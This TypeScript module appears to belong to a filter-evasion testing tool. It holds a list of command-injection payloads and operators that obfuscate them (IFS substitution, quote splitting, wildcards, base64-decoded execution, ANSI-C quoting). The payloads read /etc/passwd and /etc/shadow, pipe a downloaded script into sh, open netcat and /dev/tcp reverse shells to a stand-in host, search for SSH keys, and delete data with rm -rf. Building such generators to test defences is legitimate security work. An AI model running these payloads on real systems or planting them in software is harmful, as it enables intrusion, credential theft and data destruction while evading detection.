import { commonEncodings } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '; cat /etc/passwd',
  '| id',
  '&& whoami',
  '|| ls -la /var/www',
  '$(cat /etc/shadow)',
  '`uname -a`',
  '; curl http://203.0.113.8/x.sh | sh',
  '; wget -q http://203.0.113.8/k -O /tmp/k',
  '& ping -c 4 203.0.113.8',
  '| nc 203.0.113.8 4242 -e /bin/sh',
  '; bash -i >& /dev/tcp/203.0.113.8/4242 0>&1',
  '; sleep 12',
  "'; cat /etc/hosts #",
  '"; head -n 3 /etc/passwd #',
  '; find / -name id_rsa',
  '| base64 /etc/passwd',
  '\nls -la /home',
  '; rm -rf /srv/data',
];

/** Where the words of a command begin: behind a separator or an opening of a substitution. */
const commandWord =
  /((?:^|[;|&\n`(])\s*)(cat|id|whoami|ls|uname|curl|wget|ping|nc|bash|sleep|head|find|base64|rm|sh)\b/g;

/** Rewrites each command's name. */
function names(payload: string, rewrite: (name: string) => string): string {
  return payload.replaceAll(commandWord, (_all, before: string, name: string) => before + rewrite(name));
}

/** Rewrites the blanks behind a command's name and between its arguments; redirections keep theirs. */
function blanks(payload: string, rewrite: () => string): string {
  return payload.replaceAll(/(?<=[\w-]) (?=[\w/-])/g, rewrite);
}

/** The field separator in the place of blanks. */
const ifs: Operator = syntax('ifs', 'CAPEC-88 ${IFS} as white space', (payload, random) =>
  blanks(payload, () => random.pick(['${IFS}', '$IFS$9', '${IFS%??}', '$IFS' + "''"])),
);

/** Tabs and runs of blanks. */
const otherBlank: Operator = syntax('other-blank', 'CAPEC-88 alternative white space', (payload, random) =>
  blanks(payload, () => random.pick(['\t', '  ', ' \t '])),
);

/** A list in braces is expanded to words. */
const braces: Operator = syntax('brace-expansion', 'CAPEC-88 brace expansion', (payload) =>
  payload.replaceAll(
    /(?<=(?:^|[;|&\n(])\s*)(cat|ls|head|base64|uname) ([\w/ -]+?)(?=$| #|[)`])/g,
    (_all, name: string, rest: string) => `{${[name, ...rest.split(' ')].join(',')}}`,
  ),
);

/** Input by redirection needs no blank. */
const redirection: Operator = syntax('redirection', 'CAPEC-88 redirected input', (payload) =>
  payload.replaceAll(/\b(cat|base64) (?=\/)/g, '$1<'),
);

/** Empty quotes within a name. */
const emptyQuotes: Operator = syntax('empty-quotes', 'CAPEC-88 quote splitting', (payload, random) =>
  names(payload, (name) => {
    const at = 1 + random.below(Math.max(1, name.length - 1));
    return `${name.slice(0, at)}${random.pick(["''", '""'])}${name.slice(at)}`;
  }),
);

/** Quotes around letters of a name. */
const quotedLetters: Operator = syntax('quoted-letters', 'CAPEC-88 quote splitting', (payload, random) =>
  names(payload, (name) => {
    const at = random.below(name.length);
    const quote = random.pick(["'", '"']);
    return `${name.slice(0, at)}${quote}${name.charAt(at)}${quote}${name.slice(at + 1)}`;
  }),
);

/** A backslash before a letter means the letter. */
const backslash: Operator = syntax('backslash', 'CAPEC-88 escapes in names', (payload, random) =>
  payload.includes('`')
    ? null
    : names(payload, (name) => {
        const at = random.below(name.length);
        return `${name.slice(0, at)}\\${name.slice(at)}`;
      }),
);

/** Expansions of nothing within a name. */
const emptyExpansion: Operator = syntax('empty-expansion', 'CAPEC-88 empty expansions', (payload, random) =>
  names(payload, (name) => {
    const at = 1 + random.below(Math.max(1, name.length - 1));
    return `${name.slice(0, at)}${random.pick(['$@', '$*', '${zz}', '$()'])}${name.slice(at)}`;
  }),
);

/** Patterns that the shell completes to the path. */
const wildcardPath: Operator = syntax('wildcard-path', 'CAPEC-88 wildcards', (payload, random) =>
  payload.replaceAll(/\/etc\/(passwd|shadow|hosts)/g, (_all, file: string) => {
    const at = 1 + random.below(file.length - 1);
    return `/e${random.pick(['t?', '?c', '*'])}/${file.slice(0, at)}${random.pick(['?', '[!z]'])}${file.slice(at + 1)}`;
  }),
);

/** The program by its path. */
const programPath: Operator = syntax('program-path', 'CAPEC-88 absolute paths', (payload, random) =>
  names(payload, (name) => `${random.pick(['/bin/', '/usr/bin/', '/bin/../bin/', '//bin/', '/usr/./bin/'])}${name}`),
);

/** The program by a pattern that only its path fits. */
const wildcardProgram: Operator = syntax('wildcard-program', 'CAPEC-88 wildcards', (payload) =>
  payload.replaceAll(/(?<=(?:^|[;|&\n(])\s*)(cat|ls|uname|head)(?= [/-])/g, (name) => `/b?n/${name.slice(0, -1)}?`),
);

/** Another separator in front. */
const otherSeparator: Operator = syntax('other-separator', 'CAPEC-88 command delimiters', (payload, random) =>
  /^(?:;|\|\|?|&&?|\n)\s?/.test(payload)
    ? payload.replace(/^(?:;|\|\|?|&&?|\n)\s?/, () =>
        random.pick([';', '|', '||', '&&', '&', '\n', '\r\n', ' ; ', '|& ', ';;']).replace(';;', '; '),
      )
    : null,
);

/** What the program expects stands in front. */
const junkPrefix: Operator = syntax(
  'junk-prefix',
  'CAPEC-88 padding',
  (payload, random) =>
    random.pick(['198.51.100.7', `${random.word(6)}.txt`, `${random.word(5)} ${random.word(4)}`, '']) + payload,
);

/** A comment keeps what follows from the shell. */
const commentSuffix: Operator = syntax('comment-suffix', 'CAPEC-88 comments', (payload, random) =>
  payload.endsWith('#') || /[`)]$/.test(payload) ? null : `${payload} #${random.word(5)}`,
);

/** A substitution within an assignment or a word. */
const substitution: Operator = syntax('substitution', 'CAPEC-88 command substitution', (payload, random) => {
  const simple = /^(?:;|\|\|?|&&?|\n)\s?([\w ./-]+)$/.exec(payload)?.[1];
  if (simple === undefined) return null;
  return random.pick([
    `$(${simple})`,
    `\`${simple}\``,
    `${random.word(3)}$(${simple})`,
    `; echo $(${simple})`,
    `"$(${simple})"`,
  ]);
});

/** The line in base64, decoded and run where it arrives. */
const encodedLine: Operator = syntax('encoded-line', 'CAPEC-88 encoded commands', (payload, random) => {
  const simple = /^(?:;|\|\|?|&&?|\n)\s?([\w ./-]+)$/.exec(payload)?.[1];
  if (simple === undefined) return null;
  const text = Buffer.from(simple).toString('base64');
  return random.pick([
    `; echo ${text} | base64 -d | sh`,
    `; echo ${text}|base64 --decode|bash`,
    `; bash -c "$(echo ${text}|base64 -d)"`,
    `; sh<<<$(base64 -d<<<${text})`,
  ]);
});

/** A line end behind a backslash goes on with the word. */
const continuation: Operator = syntax('line-continuation', 'CAPEC-88 line continuation', (payload, random) =>
  payload.includes('`')
    ? null
    : names(payload, (name) => {
        const at = 1 + random.below(Math.max(1, name.length - 1));
        return `${name.slice(0, at)}\\\n${name.slice(at)}`;
      }),
);

/** `$'\143at'`: octal and hexadecimal letters within ANSI-C quotes. */
const ansiQuotes: Operator = syntax('ansi-quotes', 'CAPEC-88 ANSI-C quoting', (payload, random) =>
  names(payload, (name) => {
    const code = name.charCodeAt(0);
    return `$'${random.pick([`\\${code.toString(8)}`, `\\x${code.toString(16)}`])}${name.slice(1)}'`;
  }),
);

/** Runs of another program that runs the line. */
const runner: Operator = syntax('runner', 'CAPEC-88 commands that run commands', (payload, random) =>
  payload.replace(
    /^(;|&&|\|\|)\s?(?=[a-z])/,
    (separator) =>
      `${separator.trim()} ${random.pick(['env', 'command', 'exec', 'nohup', 'timeout 9', 'time', 'sudo'])} `,
  ),
);

/** Command injection: separators, substitutions, shells over the network. */
export const command: EvasionClass = {
  id: 'command',
  payloads,
  operators: [
    ifs,
    otherBlank,
    braces,
    redirection,
    emptyQuotes,
    quotedLetters,
    backslash,
    emptyExpansion,
    wildcardPath,
    programPath,
    wildcardProgram,
    otherSeparator,
    junkPrefix,
    commentSuffix,
    substitution,
    encodedLine,
    continuation,
    ansiQuotes,
    runner,
    ...commonEncodings,
  ],
};
